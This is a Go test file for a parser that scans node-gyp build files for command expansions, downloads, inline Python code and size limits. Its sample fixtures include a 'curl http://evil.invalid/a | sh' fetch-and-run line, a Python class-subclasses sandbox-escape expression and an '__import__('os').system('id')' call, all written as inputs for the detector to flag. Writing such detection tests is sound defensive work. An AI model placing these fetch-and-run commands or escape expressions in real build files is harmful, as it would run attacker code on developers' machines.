package shell

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const sampleGyp = `# a native module
{
  'variables': { 'tool%': 'curl', 'fetch': '<(tool) http://evil.invalid/a | sh' },
  "targets": [{
    "target_name": "addon",
    "sources": ["a.cc", "b.cc",],
    "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")", '<!(node -e "require(\'nan\')")'],
    'dependencies': ["<!(node -p \"require('node-addon-api').gyp\")", 'deps/z.gyp:z', 'local'],
    'includes': ['common.gypi', '<(module_root_dir)/more.gypi'],
    'cflags!': ["-fno-exceptions", "` + "`pkg-config --cflags x`" + `", '$(shell uname)'],
    'conditions': [
      ['OS=="win" and target_arch in ("x64", "arm64")', {'defines': ['W']}, {'x': '<!(<(fetch))'}],
      ["().__class__.__base__.__subclasses__()[1]", {}],
    ],
    'actions': [{'action_name': 'x', 'inputs': [], 'outputs': [], 'action': ['python', 'gen.py', '<@(_inputs)', 'it''s "q"']}],
    'z': "<!(['node', 'x.js'])" ' >!(node y.js)',
    'p': '<!pymod_do_main(tools.gen a b)',
    'f': '<|(list.txt <@(s))',
    'n': '<!(echo <!(node inner.js))',
    'l': '<!([c for c in ().__class__.__mro__])',
  }],
  'make_global_settings': [['CXX', './wrap.sh g++']],
  'n': -1, 'b': True, 't': (1, None),
}
`

func describeGyp(g *Gyp) []string {
	var out []string
	for _, e := range g.Expansions {
		line := fmt.Sprintf("%d:%d %s %s", e.Line, e.Column, e.Kind, e.Text)
		if e.Common() {
			line += " (common)"
		}
		out = append(out, line)
		if e.Script != nil {
			for _, d := range describe(e.Script) {
				out = append(out, "  "+d)
			}
		}
	}
	for _, i := range g.Includes {
		out = append(out, "include "+i)
	}
	for _, l := range g.Limits {
		out = append(out, "limit: "+l)
	}
	return out
}

func TestParseGyp(t *testing.T) {
	g, err := ParseGyp([]byte(sampleGyp))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`7:22 command <!@(node -p "require('node-addon-api').include") (common)`, "  inline-code: node -p (common)",
		`7:76 command <!(node -e "require('nan')") (common)`, "  inline-code: node -e (common)",
		`8:22 command <!(node -p "require('node-addon-api').gyp") (common)`, "  inline-code: node -p (common)",
		"10:37 make `pkg-config --cflags x`",
		"10:64 make $(shell uname)",
		"13:9 condition ().__class__.__base__.__subclasses__()[1]", "  inline-code: gyp condition",
		"12:84 command <!(<(fetch))", "  download: curl http://evil.invalid/a", "  download-run: sh from a pipe", "  host evil.invalid",
		`15:77 action python gen.py '<@(_inputs)' 'its "q"'`, "  runs-file: python gen.py",
		"16:10 command <!(['node', 'x.js'])", "  runs-file: node x.js",
		"16:10 command >!(node y.js)", "  runs-file: node y.js",
		"17:11 module <!pymod_do_main(tools.gen a b)", "  runs-file: python tools/gen.py",
		"18:11 file-list <|(list.txt <@(s))",
		"19:11 command <!(echo <!(node inner.js))",
		"19:19 command <!(node inner.js)", "  runs-file: node inner.js",
		"20:11 command <!([c for c in ().__class__.__mro__])", "  inline-code: gyp list expression",
		"22:37 make-global ./wrap.sh g++", "  runs-file: wrap.sh",
		"include common.gypi", "include deps/z.gyp", "include more.gypi",
	}
	if diff := cmp.Diff(want, describeGyp(g)); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

var badGyp = []struct {
	name, text, err string
	code            bool
	want            []string
}{
	{"empty", "", "line 1, column 1: the text ends too early", false, nil},
	{"a list", "[]", "not a dictionary", false, nil},
	{"a call", "__import__('os').system('id') or {}", "line 1, column 1: code of Python", true, nil},
	{"a comprehension", "{'a': [x for x in y], 'b': '<!(node a.js)'}", "line 1, column 8: code of Python", true,
		[]string{"1:29 command <!(node a.js)", "  runs-file: node a.js"}},
	{"an operator", "{'a': '<!(curl ' + 'http://evil.invalid)'}", "line 1, column 18: code of Python", true,
		[]string{"1:8 command <!(curl ' + 'http://evil.invalid)", "  download: curl  + http://evil.invalid", "  host evil.invalid"}},
	{"a formatted string", "{'a': f'{b}'}", "line 1, column 7: code of Python", true, nil},
	{"code behind the literal", "{}.update()", "line 1, column 3: code of Python", true, nil},
	{"an open string", "{\n 'a': 'b\n}", "line 2, column 7: a string is not closed", false, nil},
	{"a NUL", "{'a': \x00<!([b\x00\x1a\x02", "line 1, column 8: code of Python", true,
		[]string{"1:8 command <!([b \x1a\x02", "  inline-code: gyp list expression"}},
	{"too deep", strings.Repeat("[", 200), "nested more than 100 levels deep", false, nil},
}

func TestParseGypErrors(t *testing.T) {
	for _, test := range badGyp {
		t.Run(test.name, func(t *testing.T) {
			g, err := ParseGyp([]byte(test.text))
			if err == nil || !errors.Is(err, ErrGyp) || !strings.Contains(err.Error(), test.err) {
				t.Fatalf("error %v, want %q", err, test.err)
			}
			if errors.Is(err, ErrGypCode) != test.code {
				t.Errorf("error %v, wraps ErrGypCode: %v", err, !test.code)
			}
			if diff := cmp.Diff(test.want, describeGyp(g)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

func TestParsePython(t *testing.T) {
	tests := []struct{ text, want string }{
		{`'a' "b" r'\n' u"\u00e9" b'\x41'`, "ab\\néA"},
		{`'''a
'b' ''' "\
c\
d"`, "a\n'b' cd"},
		{`'\101\'\q'`, `A'\q`},
		{"('a' 'b')", "ab"},
		{"'a' # comment\n 'b'", "ab"},
		{"\ufeff'a'", "a"},
		{"'a' and 'b'", "b"}, {"'a' or 'b'", "a"}, {"'' or 'b'", "b"}, {"'' and 'b'", ""}, {"'a' and '' or 'c'", "c"}, {"'a' or 'b' and 'c'", "a"},
		{"\"OS == 'linux'\" or\n\"OS == 'mac'\"", "OS == 'linux'"}, {"'a' 'b'and'c' # d", "c"},
	}
	for _, test := range tests {
		v, err := parsePython(test.text)
		if err != nil {
			t.Errorf("%s: %v", test.text, err)
		} else if v.kind != pyString || v.text != test.want {
			t.Errorf("%s: %q, want %q", test.text, v.text, test.want)
		}
	}
}

func TestGypBounds(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"expansions", "{'a': ['" + strings.Repeat("<!(a)", MaxExpansions+1) + "']}", "more than 256 expansions"},
		{"text", "{'a': ['" + strings.Repeat("<!("+strings.Repeat("a", 1<<16)+")", 5) + "']}", "commands of more than 262144 bytes together"},
		{"nesting", "{'a': '" + strings.Repeat("<!(", maxGypNesting+2) + "'}", "expansions nested more than 8 levels deep"},
		{"includes", "{'includes': ['<(x).gypi']}", "includes with variables in their names"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			g, err := ParseGyp([]byte(test.text))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff([]string{test.want}, g.Limits); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
	if _, err := ParseGyp(make([]byte, MaxGypSize+1)); !errors.Is(err, ErrGyp) {
		t.Errorf("a file that is too large: %v", err)
	}
	// Variables that stand for one another many times over.
	var b strings.Builder
	b.WriteString("{'variables': {")
	for c := 'a'; c < 'j'; c++ {
		fmt.Fprintf(&b, "'%c': '%s',", c, strings.Repeat(fmt.Sprintf("<(%c)", c+1), 1000))
	}
	b.WriteString("'j': ''}, 'x': '<!(<(a))'}")
	if _, err := ParseGyp([]byte(b.String())); err != nil {
		t.Error(err)
	}
}
